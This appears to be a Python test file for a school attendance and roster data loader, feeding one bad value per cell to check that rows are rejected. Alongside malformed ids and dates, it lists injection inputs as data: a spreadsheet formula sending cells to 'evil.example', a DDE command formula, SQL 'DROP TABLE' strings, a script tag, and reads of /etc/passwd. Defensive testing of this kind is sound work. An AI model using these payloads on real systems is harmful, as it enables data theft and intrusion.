"""Single cells of an attendance or roster row: ids, dates, numbers, codes, texts that a spreadsheet would run."""

from collections.abc import Callable, Iterator
from datetime import date

from pact_etl.domain.reasons import Reason
from tests.hostile.cases import Case, Loaded, Refused, loaded, refused
from tests.hostile.speakers import (
    TABLES,
    Files,
    Row,
    Speaker,
    aeries,
    good_rows,
    plain,
    text_of,
)

FAMILY = "cells"
GONE = ("102",)


def cell(
    table: str, column: str, value: str, end: Refused | Loaded, name: str = "", **more: str
) -> Case:
    """The good night with one cell of the second row (102's, where rows are students') changed."""

    def make() -> Files:
        rows: list[Row] = good_rows()[table]
        place = 1 if len(rows) > 1 else 0
        rows[place] = rows[place] | {column: value} | more
        return plain().with_file(table, text_of(table, rows).encode())

    shown = name or (ascii(value) if len(value) < 40 else f"{len(value)} signs")
    return Case(family=FAMILY, name=f"{table} {column} {shown}", speaker=plain, make=make, end=end)


def aside(reason: str) -> Loaded:
    """The second attendance row is set aside."""
    return loaded(without=GONE, **{f"attendance__{reason}": 1})


NO_STUDENT = {
    "enrollments__unknown_student": 1,
    "guardians__unknown_student": 1,
    "attendance__unknown_student": 1,
}


def no_student(reason: str) -> Loaded:
    return loaded(without=GONE, **{f"students__{reason}": 1}, **NO_STUDENT)


MANGLED_IDS = ("1.02E+02", "1e2", "102.0", "102.", "1,020")
INVALID_IDS = (
    *(
        "10 2",
        "=102",
        "-102",
        "'102",
        "102\u200b",
        "\u202e201",
        "１０２",
        "102;DROP TABLE mark",
        "../102",
    ),
    *("<102>", "1\u00a002", "1" * 33, "x" * 5000, "\ufeff102", "102\x7f"),
)
STRANGE_IDS = ("0102", "102a", "null", "NaN", "None", "0", "1.0.2")


def ids() -> Iterator[Case]:
    for value in MANGLED_IDS:
        yield cell("attendance", "local_id", value, aside("id_mangled"))
    for value in INVALID_IDS:
        yield cell("attendance", "local_id", value, aside("invalid_id"))
    for value in STRANGE_IDS:
        yield cell("attendance", "local_id", value, aside("unknown_student"))
    yield cell("attendance", "local_id", "", aside("missing_field"), "empty")
    yield cell("attendance", "local_id", " 102 ", loaded(), "with blanks around it")
    for value, reason in (
        ("3400002", "unknown_school"),
        ("34-00001", "invalid_id"),
        ("3.4E+06", "id_mangled"),
        ("3400001.0", "id_mangled"),
        ("-3400001", "invalid_id"),
        ("９", "invalid_id"),
        ("1" * 15, "invalid_id"),
        ("Old Mill", "invalid_id"),
        ("", "missing_field"),
        ("03400001", "unknown_school"),
    ):
        yield cell("attendance", "school_code", value, aside(reason))
    for value in ("12345", "12345678901", "1.0E+09", "1000000110.0"):
        yield cell("students", "ssid", value, no_student("id_mangled"))
    for value in ("A000000110", "1000-00110", "１000000110", "=1000000110"):
        yield cell("students", "ssid", value, no_student("invalid_id"))
    yield cell("students", "ssid", "", loaded(), "empty")


BAD_DATES = (
    # times, two of them in the hours that are there twice and never
    *("2026-11-19T00:00:00", "2026-11-19Z", "2026-11-01T01:30:00-07:00", "2027-03-14T02:30:00"),
    # other ways to write it
    *(
        "11/19/2026",
        "19.11.2026",
        "20261119",
        "2026/11/19",
        "2026-11",
        "26-11-19",
        "2026-W47-4",
        "2026-323",
    ),
    *("46345", "46345.0", "1795046400", "4.6345E+04", "--11-19"),
    # days that are none
    *(
        "2026-11-31",
        "2026-02-30",
        "2027-02-29",
        "2026-13-01",
        "2026-11-00",
        "0000-00-00",
        "1900-02-29",
    ),
    # far away
    *("0001-01-01", "0026-11-19", "1899-12-31", "2200-01-01", "9999-12-31", "10000-01-01"),
    # words and signs
    *("today", "now", "tomorrow", "NaT", "nan", "NULL", "=TODAY()", "########"),
    *(
        "-2026-11-19",
        "+2026-11-19",
        "２０２６-11-19",
        "٢٠٢٦-11-19",
        "2026\u201311\u201319",
        "2026-11-19\u200b",
    ),
    *("2026-11-19;2026-11-20", "2O26-11-19", "x" * 100_000),
)


def dates() -> Iterator[Case]:
    for value in BAD_DATES:
        yield cell("attendance", "date", value, aside("invalid_date"))
    yield cell("attendance", "date", "", aside("missing_field"), "empty")
    yield cell("attendance", "date", " 2026-11-19 ", loaded(), "with blanks around it")
    yield cell("attendance", "date", "2026-11-21", aside("future_date"))
    yield cell("attendance", "date", "2199-12-31", aside("future_date"))
    for value in ("2026-06-30", "1900-01-01", "1969-12-31"):
        yield cell("attendance", "date", value, aside("outside_school_year"))
    for value in ("2026-11-15", "2026-07-01", "2026-08-12"):
        yield cell("attendance", "date", value, aside("no_school_that_day"))
    for value in ("2026-11-21", "2199-12-31"):
        yield cell("students", "birth_date", value, no_student("future_date"))
    for value in ("0001-01-01", "9999-12-31", "2013-02-29", "today", "1899-12-31"):
        yield cell("students", "birth_date", value, no_student("invalid_date"))
    yield cell("students", "birth_date", "2012-02-29", loaded())
    span = {"attendance__outside_enrollment": 1}
    for value in ("2026-08-11", "0001-01-01", "9999-12-31", "now", "2026-08-12T00:00:00"):
        yield cell(
            "enrollments",
            "exit_date",
            value,
            loaded(without=GONE, enrollments__invalid_date=1, **span),
        )
    yield cell("enrollments", "exit_date", "2026-11-18", loaded(without=GONE, **span))
    yield cell("enrollments", "exit_date", "2026-11-19", loaded())
    yield cell("enrollments", "entry_date", "2026-11-20", loaded(without=GONE, **span))
    yield cell("enrollments", "entry_date", "2199-01-01", loaded(without=GONE, **span))
    yield cell("enrollments", "entry_date", "1900-01-01", loaded())


def numbers() -> Iterator[Case]:
    for value in ("0", "1", "1440", "30.0", "30.", "007"):
        yield cell("attendance", "minutes", value, loaded())
    bad = ("-1", "1441", "1e3", "30.5", "NaN", "inf", "٣", "30 min", "=30", "0x1e", "9" * 5000)
    for value in bad:
        yield cell("attendance", "minutes", value, aside("invalid_value"))
    for value in ("-1", "1441", "six", "1e1", "６", "1.5"):
        yield cell(
            "schools",
            "periods_per_day",
            value,
            loaded(
                without=("101", "102", "103"),
                schools__invalid_value=1,
                enrollments__unknown_school=3,
                calendar__unknown_school=15,
                attendance__unknown_school=3,
            ),
        )
    yield cell("schools", "periods_per_day", "0", loaded())
    yield cell("guardians", "contact_order", "-1", loaded(guardians__invalid_value=1))
    yield cell("guardians", "contact_order", "first", loaded(guardians__invalid_value=1))


FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Ana")',
    "=cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "＝1+1",
)


def codes() -> Iterator[Case]:
    values = (
        "u",
        " ",
        "UU",
        "U\u200b",
        "\u202eU",
        "Ｕ",
        "U|E",
        "U,E",
        "NULL",
        "?",
        "Z",
        "x" * 999,
        *FORMULAS,
    )
    for value in values:
        reason = "unknown_code" if value.strip() else "missing_field"
        yield cell("attendance", "code", value, aside(reason))
    yield cell("attendance", "code", "", aside("missing_field"), "empty")
    yield cell("attendance", "code", "x" * 1001, aside("invalid_value"))
    yield cell("attendance", "code", "x" * 900_000, aside("invalid_value"))
    kinder = loaded(without=GONE, also={("102", date(2026, 11, 19)): "tardy"})
    yield cell("attendance", "code", "L", kinder, "late by no more than ten minutes", minutes="10")


def flags() -> Iterator[Case]:
    for value in ("maybe", "2", "-1", "YY", "yes please", "да", "=TRUE()", "１", "null"):
        yield cell("guardians", "has_rights", value, loaded(guardians__invalid_value=1))
    for value in ("Y", "n", "TRUE", "False", "1", "0", ""):
        yield cell("guardians", "restrained", value, loaded(), ascii(value) + " is a word of it")
    for value in ("maybe", "X"):
        yield cell("calendar", "instructional", value, loaded(calendar__invalid_value=1))
    yield cell("calendar", "instructional", "", loaded(calendar__missing_field=1), "empty")
    no_span = loaded(without=GONE, enrollments__invalid_value=1, attendance__outside_enrollment=1)
    for value in ("13", "-1", "9th", "Senior", "９", "09.0", "=9"):
        yield cell("enrollments", "grade", value, no_span)
    for value in ("9", "k", "TK", "00"):
        yield cell("enrollments", "grade", value, loaded())
    for value in ("english", "e", "es-MX", "ес1", "123", "e!g"):
        yield cell("students", "home_language", value, no_student("invalid_value"))
    yield cell("students", "home_language", "SPA", loaded())


def texts() -> Iterator[Case]:
    for value in FORMULAS:
        yield cell("students", "last_name", value, loaded(), f"a formula {value!a}")
    for name, value in {
        "an override of reading direction": "\u202eanA",
        "isolates": "\u2066Ana\u2069",
        "controls": "A\x01n\x1b[31ma\x07",
        "a delete": "Ana\x7f",
        "controls of the second set": "A\x80n\x9fa",
        "invisible characters": "A\u200bn\u200ca\u200d",
        "a private character": "A\ue000",
        "no character": "A\uffff\ufdd0",
        "a replacement character": "A\ufffd",
        "a hundred accents": "A" + "\u0301" * 100,
        "flags and families": "👨‍👩‍👧‍👦🇺🇸",
        "markup": "<script>alert(1)</script>",
        "typesetting": '#read("/etc/passwd") $x$ *b* \\',
        "a template": "{{7*7}} ${7*7} %s %n {0}",
        "a query": "'; DROP TABLE mark; --",
        "a path": "../../etc/passwd",
        "scripts of the world": "Đình नाम 名前 اسم ชื่อ",
        "a thousand signs": "x" * 1000,
    }.items():
        yield cell("students", "first_name", value, loaded(), name)
    for name, value in {
        "a thousand and one signs": "x" * 1001,
        "nearly a million signs": "x" * 999_999,
    }.items():
        yield cell("students", "first_name", value, no_student("invalid_value"), name)
        yield cell("guardians", "street", value, loaded(guardians__invalid_value=1), name)
    yield cell(
        "students",
        "first_name",
        "\u00a0",
        no_student("missing_field"),
        "a blank that does not break",
    )
    yield cell("students", "last_name", "", no_student("missing_field"), "empty")
    yield cell("guardians", "street", "1 Oak St\tApt 2", loaded(), "a tab")


def _millions() -> Iterator[Case]:
    for table in TABLES:
        column = "school_code" if table in ("schools", "calendar") else "local_id"

        def make(table: str = table, column: str = column) -> Files:
            rows = good_rows()[table]
            rows[0] = rows[0] | {column: "9" * 10_000_000}
            return plain().with_file(table, text_of(table, rows).encode())

        yield Case(
            family=FAMILY,
            name=f"{table} {column} of ten million digits",
            speaker=plain,
            make=make,
            end=refused(Reason.FILE_MALFORMED, f"{table}.csv"),
        )


def _fixed_ids() -> Iterator[Case]:
    """Ids of seven digits that lost their zeros, or got more."""
    speaker: Callable[[], Speaker] = aeries
    good = aeries().of("attendance")
    for value, reason in (
        ("102", "id_mangled"),
        ("00000102", "id_mangled"),
        ("1.02E+02", "id_mangled"),
        ("000010A", "invalid_id"),
        ("0000 102", "invalid_id"),
        ("９000102", "invalid_id"),
        ("0000999", "unknown_student"),
    ):
        content = good.decode("utf-8-sig").replace("0000102,", value + ",")
        yield Case(
            family=FAMILY,
            name=f"an id of seven digits as {value!a}",
            speaker=speaker,
            make=lambda content=content: aeries().with_file("attendance", content.encode()),  # type: ignore[misc]
            end=aside(reason),
        )


CASES = [
    *ids(),
    *dates(),
    *numbers(),
    *codes(),
    *flags(),
    *texts(),
    *_millions(),
    *_fixed_ids(),
]
